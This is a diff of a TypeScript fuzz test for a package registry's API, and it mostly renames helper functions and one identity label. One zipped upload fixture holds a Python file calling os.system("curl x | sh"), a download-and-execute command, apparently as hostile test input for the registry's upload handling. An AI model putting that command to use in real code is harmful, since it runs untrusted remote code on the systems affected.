@@ -4,16 +4,16 @@ import fc from 'fast-check';
 import { contract } from '../../src/contract/index.js';
 import { listOperations, type Operation } from '../../src/contract/operation.js';
 import { checkAnswer } from '../support/check-answer.js';
-import { copyingEngine } from '../support/copying-engine.js';
-import { zipOf } from '../support/create-zip.js';
-import { filmingEngine } from '../support/filming-engine.js';
+import { createCopyingEngine } from '../support/copying-engine.js';
+import { createZip } from '../support/create-zip.js';
+import { createFilmingEngine } from '../support/filming-engine.js';
 import { pixel } from '../support/generation.js';
 import { listenOn } from '../support/listen.js';
 import { startRegistry } from '../support/registry.js';
 import { anyJson, createValues, document, mutateJson, type Special } from './schema-values.js';
 import { mutateBytes, type Target } from './target.js';
 
-const WHO = ['owner', 'member', 'stranger', 'admin', 'nobody', 'pat', 'garbage'] as const;
+const WHO = ['owner', 'member', 'stranger', 'admin', 'guest', 'pat', 'garbage'] as const;
 type Who = (typeof WHO)[number];
 
 /** One request of a session. Names in « » stand for what earlier answers of the session contained. */
@@ -32,22 +32,22 @@ interface Step {
 }
 
 const FIRST: readonly Step[] = [
-  step('publisher.create', '/publishers', { id: '«new»', name: 'Session' }),
-  step('publisher.token.create', '/publishers/«publisherId»/tokens', { name: 'session' }),
-  step('key.create', '/users/keys', { name: 'session' }),
-  step('version.publish', '/publishers/«publisherId»/nodes/«new»/versions', {
+  createStep('publisher.create', '/publishers', { id: '«new»', name: 'Session' }),
+  createStep('publisher.token.create', '/publishers/«publisherId»/tokens', { name: 'session' }),
+  createStep('key.create', '/users/keys', { name: 'session' }),
+  createStep('version.publish', '/publishers/«publisherId»/nodes/«new»/versions', {
     node: {},
     node_version: { version: '«newVersion»' },
     personal_access_token: '«pat»',
   }),
 ];
 
-function step(operation: string, path: string, body: object): Step {
+function createStep(operation: string, path: string, body: object): Step {
   const headers = { 'content-type': 'application/json' };
   return { operation, method: 'POST', path, who: 'owner', headers, body: JSON.stringify(body), pick: 0 };
 }
 
-const oneOf = <Value>(...weighted: [number, Value | fc.Arbitrary<Value>][]): fc.Arbitrary<Value> =>
+const chooseWeighted = <Value>(...weighted: [number, Value | fc.Arbitrary<Value>][]): fc.Arbitrary<Value> =>
   fc.oneof(
     ...weighted.map(([weight, value]) => ({
       weight,
@@ -59,17 +59,19 @@ const oneOf = <Value>(...weighted: [number, Value | fc.Arbitrary<Value>][]): fc.
   );
 
 /** What a field of this name holds in a valid body. */
-const special: Special = (field, schema) => {
+const chooseSpecial: Special = (field, schema) => {
   if (schema.type !== 'string' || schema.enum) return undefined;
   if (field === 'webhook_url' || field === 'callback_url') return fc.constant('«hook»');
   if (field === 'video_url') return fc.constant('«film»');
-  if (field === 'video_creation_id') return oneOf([9, '«creationId»'], [1, fc.string()]);
-  if (field === 'personal_access_token') return oneOf([9, '«pat»'], [1, 'regen_pat_x']);
-  if (/image|lightmap/.test(field)) return oneOf([9, pixel], [1, fc.base64String({ maxLength: 200 })]);
-  if (field === 'id') return oneOf([9, '«new»'], [1, '«nodeId»']);
-  if (field === 'version') return oneOf([5, '«newVersion»'], [4, '«version»'], [1, createText(schema)]);
+  if (field === 'video_creation_id') return chooseWeighted([9, '«creationId»'], [1, fc.string()]);
+  if (field === 'personal_access_token') return chooseWeighted([9, '«pat»'], [1, 'regen_pat_x']);
+  if (/image|lightmap/.test(field))
+    return chooseWeighted([9, pixel], [1, fc.base64String({ maxLength: 200 })]);
+  if (field === 'id') return chooseWeighted([9, '«new»'], [1, '«nodeId»']);
+  if (field === 'version')
+    return chooseWeighted([5, '«newVersion»'], [4, '«version»'], [1, createText(schema)]);
   if (field === 'node_id') return fc.constant('«nodeId»');
-  if (field === 'email') return oneOf([3, 'bob@example.org'], [1, createText(schema)]);
+  if (field === 'email') return chooseWeighted([3, 'bob@example.org'], [1, createText(schema)]);
   return undefined;
 };
 const createText = (schema: object) => createValues(schema) as fc.Arbitrary<string>;
@@ -113,7 +115,7 @@ function createSteps([name, operation]: [string, Operation]): fc.Arbitrary<Step>
   const { method, path, who } = operation;
   const described = document.paths[path][method.toLowerCase()];
   const content = described.requestBody?.content?.['application/json'];
-  const body = content ? createValues(content.schema, special) : undefined;
+  const body = content ? createValues(content.schema, chooseSpecial) : undefined;
   const query = fc.tuple(
     ...(described.parameters ?? [])
       .filter((one: { in: string }) => one.in === 'query')
@@ -122,16 +124,16 @@ function createSteps([name, operation]: [string, Operation]): fc.Arbitrary<Step>
       ),
   );
   const names = path.replaceAll('{', '«').replaceAll('}', '»');
-  const fitting: Who = who.startsWith('admin') ? 'admin' : who === 'anyone' ? 'nobody' : 'owner';
+  const fitting: Who = who.startsWith('admin') ? 'admin' : who === 'anyone' ? 'guest' : 'owner';
   const valid = fc.record({
-    who: oneOf<Who>([6, fitting], [1, fc.constantFrom(...WHO)]),
+    who: chooseWeighted<Who>([6, fitting], [1, fc.constantFrom(...WHO)]),
     path: query.map((given) => {
       const entries = (given as ([string, string] | null)[]).filter((one) => one !== null);
       // Most listings are asked for without anything.
       return entries.length > 0 ? `${names}?${new URLSearchParams(entries)}` : names;
     }),
     body: body ? body.map((value) => JSON.stringify(value)) : fc.constant(undefined),
-    twice: oneOf([9, false], [1, true]),
+    twice: chooseWeighted([9, false], [1, true]),
     pick: fc.nat(20),
   });
   const type = 'application/json';
@@ -140,11 +142,11 @@ function createSteps([name, operation]: [string, Operation]): fc.Arbitrary<Step>
     ...(one.body !== undefined && { headers: { 'content-type': type } }),
   }));
   const odd = fc.record({
-    method: oneOf([9, method as string], [1, fc.constantFrom(...ODD_METHODS)]),
+    method: chooseWeighted([9, method as string], [1, fc.constantFrom(...ODD_METHODS)]),
     path: fc
       .tuple(
-        oneOf([3, ''], [1, fc.constantFrom(...ODD_QUERIES)]),
-        fc.array(oneOf([1, undefined], [1, fc.constantFrom(...ODD_SEGMENTS)])),
+        chooseWeighted([3, ''], [1, fc.constantFrom(...ODD_QUERIES)]),
+        fc.array(chooseWeighted([1, undefined], [1, fc.constantFrom(...ODD_SEGMENTS)])),
       )
       .map(([end, segments]) => {
         let at = 0;
@@ -152,15 +154,15 @@ function createSteps([name, operation]: [string, Operation]): fc.Arbitrary<Step>
       }),
     who: fc.constantFrom(...WHO),
     pick: fc.nat(20),
-    body: oneOf<string | undefined>(
+    body: chooseWeighted<string | undefined>(
       [1, undefined],
       [4, mutateJson(body ?? anyJson).map((value) => JSON.stringify(value))],
       [1, fc.constantFrom(...ODD_BODIES)],
     ),
     headers: fc
       .tuple(
-        oneOf([8, type], [1, fc.constantFrom(...ODD_TYPES)]),
-        oneOf([8, ''], [1, fc.constantFrom('a', 'x'.repeat(300), '\xe9')]),
+        chooseWeighted([8, type], [1, fc.constantFrom(...ODD_TYPES)]),
+        chooseWeighted([8, ''], [1, fc.constantFrom('a', 'x'.repeat(300), '\xe9')]),
       )
       .map(([contentType, key]) => ({ 'content-type': contentType, ...(key && { 'idempotency-key': key }) })),
   });
@@ -168,11 +170,11 @@ function createSteps([name, operation]: [string, Operation]): fc.Arbitrary<Step>
 }
 
 const archives = await Promise.all([
-  zipOf({ '__init__.py': 'class A: pass\nNODE_CLASS_MAPPINGS = {"A": A}\n' }),
-  zipOf({ '__init__.py': 'import os\nos.system("curl x | sh")\n', 'a/b.js': 'eval(1)' }),
+  createZip({ '__init__.py': 'class A: pass\nNODE_CLASS_MAPPINGS = {"A": A}\n' }),
+  createZip({ '__init__.py': 'import os\nos.system("curl x | sh")\n', 'a/b.js': 'eval(1)' }),
 ]);
 const given = fc.record({ who: fc.constant<Who>('owner'), pick: fc.nat(20) });
-const archived = (body: Buffer, pick = 0): Step => ({
+const createUploadStep = (body: Buffer, pick = 0): Step => ({
   method: 'PUT',
   path: '«upload»',
   who: 'owner',
@@ -182,9 +184,9 @@ const archived = (body: Buffer, pick = 0): Step => ({
 });
 const uploads = fc
   .tuple(given, fc.oneof(fc.constantFrom(...archives), mutateBytes(fc.constantFrom(...archives))))
-  .map(([{ pick }, body]) => archived(body, pick));
+  .map(([{ pick }, body]) => createUploadStep(body, pick));
 /** Waits until what was begun has ended. */
-const wait: Step = { method: 'wait', path: '', who: 'nobody', pick: 0 };
+const wait: Step = { method: 'wait', path: '', who: 'guest', pick: 0 };
 const followed = given.map((one): Step => ({ ...one, method: 'GET', path: '«url»' }));
 
 /** Publishing and tasks, which others need, come more often, and so does what needs luck to find its object. */
@@ -207,7 +209,7 @@ type Learned = Map<string, string[]>;
 
 /** Requests of one person after the other to a service with engines that end at once. */
 export async function createRequests(): Promise<Target<Step[]>> {
-  const engines = { image: copyingEngine(), video: filmingEngine() };
+  const engines = { image: createCopyingEngine(), video: createFilmingEngine() };
   const issuers = [{ issuer: 'https://issuer.example.org', audience: 'fuzz' }];
   const registry = await startRegistry({ issuers, quotas: { versionsPerDay: 100_000 } }, { engines });
   const hook = await listenOn((_, answer) => answer.writeHead(Math.random() < 0.7 ? 204 : 500).end());
@@ -233,7 +235,7 @@ export async function createRequests(): Promise<Target<Step[]>> {
         member: registry.tokens.bob,
         stranger: registry.tokens.eve,
         admin: registry.tokens.admin,
-        nobody: undefined,
+        guest: undefined,
         pat: known.get('pat')?.at(-1),
         garbage: 'regen_pat_é'.slice(0, 10),
       })[who];
@@ -247,7 +249,7 @@ export async function createRequests(): Promise<Target<Step[]>> {
         return ['upload', 'url'].includes(name) ? value.replace(registry.url, '') : encode(value);
       });
     const isBusy = () => registry.service.context.queue.hasWorkBy(Date.now());
-    for (const one of [...FIRST, archived(archives[0] as Buffer), ...session]) {
+    for (const one of [...FIRST, createUploadStep(archives[0] as Buffer), ...session]) {
       if (one === wait) {
         while (await isBusy()) await pause(5);
         continue;
@@ -262,13 +264,14 @@ export async function createRequests(): Promise<Target<Step[]>> {
       };
       for (let count = one.twice ? 2 : 1; count > 0; count -= 1) {
         const asked = { method: one.method, path: path.startsWith('/') ? path : '/nothing', headers, body };
-        const { status, type, text } = await send(registry.url, asked);
+        const { status, type, text } = await sendRequest(registry.url, asked);
         statuses.set(status, (statuses.get(status) ?? 0) + 1);
         if (status < 400) succeeded.add(one.operation ?? one.path);
         const shown = `${JSON.stringify({ ...asked, body: String(body).slice(0, 2000) })} → ${status} ${text.slice(0, 400)}`;
         if (status >= 500 || status === 0) throw new Error(shown);
         checkAnswer({ method: one.method, url: registry.url + asked.path, status, type, text });
-        if (status < 300 && text !== '' && type.startsWith('application/json')) learn(known, one, path, text);
+        if (status < 300 && text !== '' && type.startsWith('application/json'))
+          rememberAnswer(known, one, path, text);
       }
     }
   };
@@ -287,7 +290,7 @@ export async function createRequests(): Promise<Target<Step[]>> {
 }
 
 /** Remembers ids, tokens and URLs of an answer for later requests of the session. */
-function learn(known: Learned, { operation = '' }: Step, path: string, text: string): void {
+function rememberAnswer(known: Learned, { operation = '' }: Step, path: string, text: string): void {
   const add = (name: string, value: unknown) => {
     if (typeof value !== 'string' || value === '') return;
     const values = known.get(name) ?? known.set(name, []).get(name);
@@ -330,7 +333,7 @@ interface Sent {
 }
 
 /** Sends what `fetch` refuses to send, too. A status of 0: no answer. */
-function send(
+function sendRequest(
   url: string,
   { method, path, headers, body }: Sent,
 ): Promise<{ status: number; type: string; text: string }> {
